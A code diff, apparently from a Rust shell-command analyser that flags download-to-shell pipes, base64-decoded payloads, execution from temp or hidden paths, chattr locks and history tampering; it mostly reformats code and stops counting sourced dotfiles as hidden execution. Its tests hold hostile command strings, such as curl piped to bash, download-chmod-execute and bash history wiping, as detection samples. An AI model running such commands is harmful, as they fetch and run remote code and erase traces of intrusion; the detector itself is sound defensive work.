@@ -33,17 +33,60 @@ const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash", b"mk
 
 /// Commands whose arguments name things without running or reaching them.
 const MENTION_ONLY: &[&[u8]] = &[
-    b"pkill", b"kill", b"killall", b"rm", b"unlink", b"grep", b"egrep", b"fgrep", b"sed", b"awk", b"ps",
-    b"netstat", b"ss", b"echo", b"printf", b"chattr", b"lsattr", b"ls", b"cat", b"test", b"[", b"xargs",
-    b"crontab", b"systemctl", b"service", b"pgrep", b"pidof", b"iptables", b"ip6tables", b"ufw", b"tr",
-    b"head", b"tail", b"cut", b"sort", b"uniq", b"wc", b"find", b"mv", b"cp", b"touch", b"mkdir", b"chmod",
-    b"chown", b"docker", b"lsof", b"fuser", b"logger",
+    b"pkill",
+    b"kill",
+    b"killall",
+    b"rm",
+    b"unlink",
+    b"grep",
+    b"egrep",
+    b"fgrep",
+    b"sed",
+    b"awk",
+    b"ps",
+    b"netstat",
+    b"ss",
+    b"echo",
+    b"printf",
+    b"chattr",
+    b"lsattr",
+    b"ls",
+    b"cat",
+    b"test",
+    b"[",
+    b"xargs",
+    b"crontab",
+    b"systemctl",
+    b"service",
+    b"pgrep",
+    b"pidof",
+    b"iptables",
+    b"ip6tables",
+    b"ufw",
+    b"tr",
+    b"head",
+    b"tail",
+    b"cut",
+    b"sort",
+    b"uniq",
+    b"wc",
+    b"find",
+    b"mv",
+    b"cp",
+    b"touch",
+    b"mkdir",
+    b"chmod",
+    b"chown",
+    b"docker",
+    b"lsof",
+    b"fuser",
+    b"logger",
 ];
 
 /// Wrappers skipped to find the real command.
 const WRAPPERS: &[&[u8]] = &[
-    b"sudo", b"nohup", b"setsid", b"exec", b"command", b"builtin", b"time", b"stdbuf", b"then", b"do", b"else",
-    b"{", b"!", b"if", b"while", b"until", b"eval", b"doas", b"flock",
+    b"sudo", b"nohup", b"setsid", b"exec", b"command", b"builtin", b"time", b"stdbuf", b"then",
+    b"do", b"else", b"{", b"!", b"if", b"while", b"until", b"eval", b"doas", b"flock",
 ];
 
 /// Directories where nothing should be executed from.
@@ -127,7 +170,11 @@ fn split_words(text: &[u8]) -> (Vec<Vec<u8>>, Vec<Vec<u8>>) {
     let mut redirects = Vec::new();
     let mut expect_target = false;
     for raw in super::words(text) {
-        let w: Vec<u8> = raw.iter().copied().filter(|b| *b != b'\'' && *b != b'"').collect();
+        let w: Vec<u8> = raw
+            .iter()
+            .copied()
+            .filter(|b| *b != b'\'' && *b != b'"')
+            .collect();
         let mut rest: &[u8] = &w;
         loop {
             let op = rest.iter().position(|b| *b == b'>' || *b == b'<');
@@ -235,7 +282,10 @@ fn command_index(words: &[Vec<u8>]) -> Option<usize> {
             i += 1;
         } else if WRAPPERS.contains(&base) || base == b"env" {
             i += 1;
-            while words.get(i).is_some_and(|a| a.starts_with(b"-") || is_assignment(a)) {
+            while words
+                .get(i)
+                .is_some_and(|a| a.starts_with(b"-") || is_assignment(a))
+            {
                 i += 1;
             }
         } else if base == b"timeout" || base == b"nice" || base == b"ionice" || base == b"taskset" {
@@ -246,7 +296,8 @@ fn command_index(words: &[Vec<u8>]) -> Option<usize> {
             {
                 i += 1;
             }
-        } else if SHELLS.contains(&base) && words.get(i + 1).is_some_and(|a| a.as_slice() == b"-c") {
+        } else if SHELLS.contains(&base) && words.get(i + 1).is_some_and(|a| a.as_slice() == b"-c")
+        {
             if words.get(i + 2).is_some() {
                 i += 2;
             } else {
@@ -263,8 +314,13 @@ fn command_index(words: &[Vec<u8>]) -> Option<usize> {
 
 /// True for a word that names a path worth following (absolute, home-relative or dot-relative).
 fn is_pathish(w: &[u8]) -> bool {
-    w.starts_with(b"/") || w.starts_with(b"~/") || w.starts_with(b"./") || w.starts_with(b"$HOME/")
-        || (w.contains(&b'/') && w.first().is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'.'))
+    w.starts_with(b"/")
+        || w.starts_with(b"~/")
+        || w.starts_with(b"./")
+        || w.starts_with(b"$HOME/")
+        || (w.contains(&b'/')
+            && w.first()
+                .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'.'))
             && !w.contains(&b':')
 }
 
@@ -319,15 +375,27 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             pipeline_has = (false, false);
         }
         let is_downloader = DOWNLOADERS.contains(&cmd.as_slice())
-            || (matches!(cmd.as_slice(), b"python" | b"python2" | b"python3" | b"perl" | b"php")
-                && args.iter().any(|a| {
-                    contains(a, b"urllib") || contains(a, b"urlopen") || contains(a, b"LWP") || contains(a, b"requests.get")
-                }));
+            || (matches!(
+                cmd.as_slice(),
+                b"python" | b"python2" | b"python3" | b"perl" | b"php"
+            ) && args.iter().any(|a| {
+                contains(a, b"urllib")
+                    || contains(a, b"urlopen")
+                    || contains(a, b"LWP")
+                    || contains(a, b"requests.get")
+            }));
         let is_decoder = (cmd == b"base64"
-            && args.iter().any(|a| matches!(a.as_slice(), b"-d" | b"--decode" | b"-D" | b"-di")))
-            || (cmd == b"openssl" && args.iter().any(|a| a == b"base64" || a == b"-base64" || a == b"-a")
+            && args
+                .iter()
+                .any(|a| matches!(a.as_slice(), b"-d" | b"--decode" | b"-D" | b"-di")))
+            || (cmd == b"openssl"
+                && args
+                    .iter()
+                    .any(|a| a == b"base64" || a == b"-base64" || a == b"-a")
                 && args.iter().any(|a| a == b"-d"))
-            || args.iter().any(|a| contains(a, b"b64decode") || contains(a, b"decode_base64"));
+            || args
+                .iter()
+                .any(|a| contains(a, b"b64decode") || contains(a, b"decode_base64"));
         let mention = MENTION_ONLY.contains(&cmd.as_slice()) && !is_decoder;
         if !mention {
             out.mention_only = false;
@@ -351,7 +419,10 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             }
             let mut it = args.iter();
             while let Some(a) = it.next() {
-                if matches!(a.as_slice(), b"-o" | b"-O" | b"--output" | b"--output-document") {
+                if matches!(
+                    a.as_slice(),
+                    b"-o" | b"-O" | b"--output" | b"--output-document"
+                ) {
                     if let Some(f) = it.next().filter(|f| f.as_slice() != b"-") {
                         saved_downloads.push(f.clone());
                     }
@@ -366,8 +437,13 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             }
         }
         let is_interp = INTERPRETERS.contains(&cmd.as_slice());
-        let script_arg = args.iter().find(|a| !a.starts_with(b"-") && !is_assignment(a));
-        if is_interp && seg.piped && script_arg.is_none_or(|a| a.as_slice() == b"-s" || a.as_slice() == b"-") {
+        let script_arg = args
+            .iter()
+            .find(|a| !a.starts_with(b"-") && !is_assignment(a));
+        if is_interp
+            && seg.piped
+            && script_arg.is_none_or(|a| a.as_slice() == b"-s" || a.as_slice() == b"-")
+        {
             if pipeline_has.0 {
                 out.download_to_shell = true;
             }
@@ -377,7 +453,9 @@ pub fn analyze(text: &[u8]) -> ShellLine {
         }
         // `bash -c "$(curl ...)"`, `bash <(curl ...)`, `. <(curl ...)`, `eval "$(...)"`.
         pending_shell_subst = (is_interp || cmd == b"." || cmd == b"source" || cmd == b"eval")
-            && args.iter().all(|a| a.as_slice() == b"-c" || a.as_slice() == b"<" || a.starts_with(b"-"));
+            && args
+                .iter()
+                .all(|a| a.as_slice() == b"-c" || a.as_slice() == b"<" || a.starts_with(b"-"));
         if words.first().is_some_and(|w| basename(w) == b"eval") {
             pending_shell_subst = true;
         }
@@ -391,11 +469,15 @@ pub fn analyze(text: &[u8]) -> ShellLine {
                 push_unique(&mut out.module_loads, m.clone());
             }
         }
-        if cmd == b"chattr" || cmd == b"tntrecht" {
-            if args.iter().any(|a| a.starts_with(b"+") && (a.contains(&b'i') || a.contains(&b'a'))) {
-                for a in args.iter().filter(|a| !a.starts_with(b"+") && !a.starts_with(b"-")) {
-                    push_unique(&mut out.chattr_lock, a.clone());
-                }
+        let locks = args
+            .iter()
+            .any(|a| a.starts_with(b"+") && (a.contains(&b'i') || a.contains(&b'a')));
+        if (cmd == b"chattr" || cmd == b"tntrecht") && locks {
+            for a in args
+                .iter()
+                .filter(|a| !a.starts_with(b"+") && !a.starts_with(b"-"))
+            {
+                push_unique(&mut out.chattr_lock, a.clone());
             }
         }
         if mention && cmd != b"chmod" {
@@ -404,9 +486,18 @@ pub fn analyze(text: &[u8]) -> ShellLine {
         // What runs: the command word when it is a path, the script of an interpreter, the target of
         // `chmod +x` after a download (download then execute).
         let mut run: Vec<Vec<u8>> = Vec::new();
+        // Sourcing a hidden file (`. ~/.bash_aliases`, `. "$HOME/.cargo/env"`) is what dotfiles do; only
+        // programs run from hidden paths count as hidden execution.
+        let sourced = cmd == b"." || cmd == b"source";
         if cmd == b"chmod" {
-            if args.iter().any(|a| contains(a, b"x") || a.iter().all(u8::is_ascii_digit)) {
-                for a in args.iter().filter(|a| !a.starts_with(b"-") && !a.starts_with(b"+")) {
+            if args
+                .iter()
+                .any(|a| contains(a, b"x") || a.iter().all(u8::is_ascii_digit))
+            {
+                for a in args
+                    .iter()
+                    .filter(|a| !a.starts_with(b"-") && !a.starts_with(b"+"))
+                {
                     if saved_downloads.iter().any(|d| d == a) {
                         out.download_then_exec = true;
                     }
@@ -425,11 +516,16 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             }
         }
         for r in run {
-            if saved_downloads.iter().any(|d| d == &r || basename(d) == basename(&r)) {
+            if saved_downloads
+                .iter()
+                .any(|d| d == &r || basename(d) == basename(&r))
+            {
                 out.download_then_exec = true;
             }
             let resolved = match &cwd {
-                Some(dir) if !r.starts_with(b"/") && !r.starts_with(b"~") && !r.starts_with(b"$") => {
+                Some(dir)
+                    if !r.starts_with(b"/") && !r.starts_with(b"~") && !r.starts_with(b"$") =>
+                {
                     let rel = r.strip_prefix(b"./").unwrap_or(&r);
                     [dir.as_slice(), b"/", rel].concat()
                 }
@@ -438,7 +534,7 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             if in_temp_dir(&resolved) {
                 push_unique(&mut out.temp_exec, resolved.clone());
             }
-            if has_hidden_component(&resolved) {
+            if has_hidden_component(&resolved) && !sourced {
                 push_unique(&mut out.hidden_exec, resolved.clone());
             }
             push_unique(&mut out.executed, resolved);
@@ -456,7 +552,9 @@ fn path_words(w: &[u8]) -> Vec<Vec<u8>> {
     let mut i = 0;
     while let Some(&b) = w.get(i) {
         let start_ok = (b == b'/' || (b == b'~' && w.get(i + 1) == Some(&b'/')))
-            && (i == 0 || w.get(i - 1).is_some_and(|p| matches!(p, b'=' | b'>' | b'<' | b':' | b',')));
+            && (i == 0
+                || w.get(i - 1)
+                    .is_some_and(|p| matches!(p, b'=' | b'>' | b'<' | b':' | b',')));
         if start_ok {
             let end = w
                 .get(i..)
@@ -480,10 +578,10 @@ fn path_words(w: &[u8]) -> Vec<Vec<u8>> {
 fn scan_reach(w: &[u8], out: &mut ShellLine) {
     for scheme in [&b"http://"[..], b"https://", b"ftp://", b"tftp://"] {
         let mut from = 0;
-        while let Some(pos) = w
-            .get(from..)
-            .and_then(|rest| rest.windows(scheme.len()).position(|x| x.eq_ignore_ascii_case(scheme)))
-        {
+        while let Some(pos) = w.get(from..).and_then(|rest| {
+            rest.windows(scheme.len())
+                .position(|x| x.eq_ignore_ascii_case(scheme))
+        }) {
             let start = from + pos;
             let end = w
                 .get(start..)
@@ -491,7 +589,10 @@ fn scan_reach(w: &[u8], out: &mut ShellLine) {
                 .iter()
                 .position(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b')' | b'`'))
                 .map_or(w.len(), |e| start + e);
-            push_unique(&mut out.urls, w.get(start..end).unwrap_or_default().to_vec());
+            push_unique(
+                &mut out.urls,
+                w.get(start..end).unwrap_or_default().to_vec(),
+            );
             from = end.max(start + 1);
         }
     }
@@ -509,7 +610,9 @@ pub fn ipv4s(w: &[u8]) -> Vec<String> {
     let mut out = Vec::new();
     let mut i = 0;
     while i < w.len() {
-        let boundary_before = i == 0 || w.get(i - 1).is_some_and(|b| !b.is_ascii_digit() && *b != b'.');
+        let boundary_before = i == 0
+            || w.get(i - 1)
+                .is_some_and(|b| !b.is_ascii_digit() && *b != b'.');
         if !boundary_before || !w.get(i).is_some_and(u8::is_ascii_digit) {
             i += 1;
             continue;
@@ -541,7 +644,9 @@ fn history_checks(seg: &Segment, out: &mut ShellLine) {
         let next = words.get(i + 1).map(Vec::as_slice).unwrap_or_default();
         let w = w.as_slice();
         let assignment = w.strip_prefix(b"export ").unwrap_or(w);
-        if assignment.starts_with(b"HISTFILE=") && (contains(assignment, b"/dev/null") || assignment.len() == 9) {
+        if assignment.starts_with(b"HISTFILE=")
+            && (contains(assignment, b"/dev/null") || assignment.len() == 9)
+        {
             note("HISTFILE set to /dev/null or empty");
         }
         if (assignment.starts_with(b"HISTSIZE=") || assignment.starts_with(b"HISTFILESIZE="))
@@ -555,7 +660,10 @@ fn history_checks(seg: &Segment, out: &mut ShellLine) {
         if basename(w) == b"history" && next.starts_with(b"-") && next.contains(&b'c') {
             note("history -c");
         }
-        if w == b"set" && next == b"+o" && words.get(i + 2).is_some_and(|x| x.as_slice() == b"history") {
+        if w == b"set"
+            && next == b"+o"
+            && words.get(i + 2).is_some_and(|x| x.as_slice() == b"history")
+        {
             note("set +o history");
         }
     }
@@ -601,7 +709,10 @@ mod tests {
         assert!(analyze(b"/bin/sh -c 'curl -s http://a/b|bash'").download_to_shell);
         let s = analyze(b"echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash");
         assert!(s.base64_decode && s.decode_to_shell && !s.download_to_shell);
-        assert!(analyze(b"curl -fsSL http://1.2.3.4/x -o /tmp/x && chmod +x /tmp/x && /tmp/x").download_then_exec);
+        assert!(
+            analyze(b"curl -fsSL http://1.2.3.4/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")
+                .download_then_exec
+        );
     }
 
     #[test]
@@ -625,11 +736,17 @@ mod tests {
         let s = analyze(b"~/.configrc/a/upd>/dev/null 2>&1");
         assert_eq!(s.hidden_exec, vec![b"~/.configrc/a/upd".to_vec()]);
         let s = analyze(b"cd /tmp/.X25-unix/.rsync/c && nohup ./aptitude -t 150 >/dev/null &");
-        assert_eq!(s.temp_exec, vec![b"/tmp/.X25-unix/.rsync/c/aptitude".to_vec()]);
+        assert_eq!(
+            s.temp_exec,
+            vec![b"/tmp/.X25-unix/.rsync/c/aptitude".to_vec()]
+        );
         assert_eq!(s.hidden_exec, s.temp_exec);
         let s = analyze(b"sh /var/tmp/.x/run.sh");
         assert_eq!(s.temp_exec, vec![b"/var/tmp/.x/run.sh".to_vec()]);
         assert!(analyze(b"/usr/bin/.update startup").hidden_exec.len() == 1);
+        assert!(analyze(b"if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi").is_quiet());
+        assert!(analyze(b". \"$HOME/.cargo/env\"").is_quiet());
+        assert_eq!(analyze(b". /tmp/.x/env").temp_exec.len(), 1);
     }
 
     #[test]
@@ -643,7 +760,11 @@ mod tests {
             b"ln -sf /dev/null /root/.bash_history",
             b"cat /dev/null > ~/.bash_history",
         ] {
-            assert!(!analyze(line).history_tamper.is_empty(), "{}", String::from_utf8_lossy(line));
+            assert!(
+                !analyze(line).history_tamper.is_empty(),
+                "{}",
+                String::from_utf8_lossy(line)
+            );
         }
         assert!(analyze(b"echo $HISTFILE").history_tamper.is_empty());
     }
